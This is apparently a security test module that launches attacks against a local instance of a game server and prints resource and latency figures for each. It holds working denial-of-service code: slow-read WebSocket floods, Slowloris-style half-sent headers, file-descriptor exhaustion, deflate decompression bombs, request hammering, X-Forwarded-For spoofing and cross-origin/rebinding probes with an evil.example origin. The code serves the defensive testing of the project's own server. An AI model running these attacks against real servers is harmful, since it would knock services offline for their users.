"""The attacks themselves: `python -m tests.apps.web.hostile.attacks [--root FOLDER] ATTACK...` prints figures of each."""

from __future__ import annotations

import asyncio
import json
import random
import socket
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.apps.web.hostile.attacked import (
    ELSEWHERE,
    ROOT,
    SEATS,
    Server,
    cut_off,
    frame,
    long_table,
    opened,
    share,
    started,
    witness,
)

SERVE = ["youyi", "serve", "--port", "0", "--database", "DATABASE"]
SPEAK = frame(b'{"type":"Speak","language":"en"}')


def said(took: list[float]) -> str:
    return f"witness: {len(took)} answers, p50 {share(took, 0.5):.0f}, p99 {share(took, 0.99):.0f} ms"


def silent(server: Server, lines: int = 40, seconds: float = 40) -> str:
    """Hole 1: sockets that ask for snapshots and never read."""
    table = long_table(server)

    async def attack() -> tuple[list[float], list[float]]:
        async with witness(server) as took:
            rss = [server.rss()]
            held = [opened(server, f"/ws/tables/{table}") for _ in range(lines)]
            until = time.monotonic() + seconds
            while time.monotonic() < until:
                for each in held:
                    try:
                        each.send(SPEAK, socket.MSG_DONTWAIT)
                    except OSError:
                        continue
                rss.append(server.rss())
                await asyncio.sleep(0.05)
            counts = [float(cut_off(server, held))]
            for each in held:
                each.close()
            await asyncio.sleep(5)  # what stays in memory when the attack is over is measured
            return took, [rss[0], max(rss), server.rss(), *counts]

    took, (before, highest, after, cut) = asyncio.run(attack())
    return f"RSS {before:.0f} -> {highest:.0f} -> {after:.0f} MB, {cut:.0f} of {lines} cut off; {said(took)}"


def descriptors(server: Server, lines: int = 330, seconds: float = 10) -> str:
    """Hole 2: more connections than file descriptors."""
    cpu, log = server.cpu(), server.logged()
    held = [reached(server) for _ in range(lines)]
    time.sleep(seconds)  # the attack lasts so long
    used, written = server.cpu() - cpu, server.logged() - log
    status = server.status("/api/tables")
    for each in held:
        each.close()
    time.sleep(2)  # what holds after the attack is asked
    return f"log {written} bytes, CPU {100 * used / seconds:.0f} %, meanwhile {status}, afterwards {server.status('/api/tables')}"


def heads(server: Server, lines: int = 500, seconds: float = 25) -> str:
    """Hole 2: requests whose head never ends."""
    held = [reached(server) for _ in range(lines)]
    for each in held:
        each.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for each in held:
            try:
                each.send(b"a")
            except OSError:
                continue
        time.sleep(1)
    open_ = lines - cut_off(server, held)
    for each in held:
        each.close()
    return f"{open_} of {lines} half-sent heads open after {seconds} s; {server.status('/api/tables')}"


def bombs(server: Server, lines: int = 4, seconds: float = 20) -> str:
    """Hole 3: small frames that unpack to megabytes."""
    table = server.ask("/api/tables", {"game": "ruqi", "seats": SEATS})["id"]
    packer = zlib.compressobj(9, zlib.DEFLATED, -12)
    bomb = (packer.compress(b" " * 4_000_000) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
    raw = bytearray(frame(bomb))
    raw[0] |= 0x40

    async def one(until: float) -> None:
        while time.monotonic() < until:
            line = opened_with_deflate(server, f"/ws/tables/{table}")
            try:
                while time.monotonic() < until:
                    sent = asyncio.get_running_loop().sock_sendall(line, bytes(raw))
                    await asyncio.wait_for(sent, 1)  # it may be cut off
                    await asyncio.sleep(0.01)
            except (OSError, TimeoutError):
                await asyncio.sleep(0.05)
            line.close()

    async def attack() -> tuple[list[float], float, float]:
        before = highest = server.rss()
        async with witness(server) as took:
            attackers = [asyncio.create_task(one(time.monotonic() + seconds)) for _ in range(lines)]
            while not all(each.done() for each in attackers):
                highest = max(highest, server.rss())
                await asyncio.sleep(0.1)
            return took, before, highest

    took, before, highest = asyncio.run(attack())
    return f"bombs of {len(raw)} bytes: RSS {before:.0f} -> {highest:.0f} MB; {said(took)}"


def reached(server: Server, source: str = ELSEWHERE) -> socket.socket:
    return socket.create_connection(("127.0.0.1", server.port), source_address=(source, 0))


def opened_with_deflate(server: Server, path: str) -> socket.socket:
    line = reached(server)
    line.sendall(
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode()
    )
    line.recv(65536)
    line.setblocking(False)
    return line


HAMMER = """
import http.client, sys, time
until, (mine, port, *paths) = time.monotonic() + float(sys.argv[1]), sys.argv[2:]
line = http.client.HTTPConnection("127.0.0.1", int(port), timeout=30, source_address=(mine, 0))
done = ok = 0
while time.monotonic() < until:
    try:
        line.request("GET", paths[done % len(paths)] + ("%d" % done if paths[0].endswith("/t/") else ""))
        answer = line.getresponse(); answer.read()
        ok += answer.status == 200; done += 1
    except OSError:
        line.close()
print(done, ok)
"""


def hammer(server: Server, clients: int = 4, seconds: float = 15) -> str:
    """Hole 4: clients that ask for costly pages without pause."""
    table = long_table(server)
    pages = {
        "transcript": [f"/api/tables/{table}/transcript?language={each}" for each in ("en", "zh-Hant", "zh-Hans")],
        "record": [f"/api/tables/{table}/record"],
        "qr": [f"/api/qr?text=http://127.0.0.1:{server.port}/t/"],
        "missing": ["/api/tables/nowhere"],
    }

    async def attack(paths: list[str]) -> str:
        async with witness(server) as took:
            words = [sys.executable, "-c", HAMMER, str(seconds)]
            running = [
                await asyncio.create_subprocess_exec(
                    *words, f"127.0.0.{2 + nth}", str(server.port), *paths, stdout=subprocess.PIPE
                )
                for nth in range(clients)
            ]
            done = [(await each.communicate())[0].split() for each in running]
        asked, answered = (sum(int(each[place]) for each in done) for place in (0, 1))
        return f"{asked / seconds:.0f}/s, of them answered {answered / seconds:.0f}/s; {said(took)}"

    return "\n  ".join(f"{name}: {asyncio.run(attack(paths))}" for name, paths in pages.items())


def spoof(server: Server, times: int = 100) -> str:
    """Hole 9: tables for addresses that are made up."""
    laid = 0
    for _ in range(times):
        claimed = ".".join(str(random.randrange(1, 255)) for _ in range(4))
        laid += server.status("/api/tables", {"game": "ruqi", "seats": SEATS}, {"X-Forwarded-For": claimed}) == 200
    return f"{laid} tables of {times}"


def foreign(server: Server) -> str:
    """Hole 8: a page of another site."""
    wanted = {"game": "ruqi", "seats": SEATS}
    evil = {"Origin": "https://evil.example"}
    table = server.ask("/api/tables", wanted)["id"]
    answers = {
        "Origin": server.status("/api/tables", wanted, evil),
        "text/plain": server.status("/api/tables", wanted, {"Content-Type": "text/plain"}),
        "Host": server.status("/api/tables", None, {"Host": "rebind.evil.example"}),
        "socket": socket_status(server, table, "https://evil.example"),
    }
    return json.dumps(answers)


def socket_status(server: Server, table: str, origin: str) -> str:
    with reached(server) as line:
        line.sendall(
            f"GET /ws/tables/{table} HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
            f"Origin: {origin}\r\n\r\n".encode()
        )
        return line.recv(4096).split(b"\r\n")[0].decode()


ATTACKS: Mapping[str, Callable[[Server], str]] = {
    each.__name__: each for each in (silent, descriptors, heads, bombs, hammer, spoof, foreign)
}


if __name__ == "__main__":
    words = sys.argv[1:]
    root = ROOT
    if words[:1] == ["--root"]:
        root, words = Path(words[1]), words[2:]
    for name in words or ATTACKS:
        with started(SERVE, root, descriptors=300 if name == "descriptors" else None) as attacked:
            sys.stdout.write(f"{name}: {ATTACKS[name](attacked)}\n")
            sys.stdout.flush()
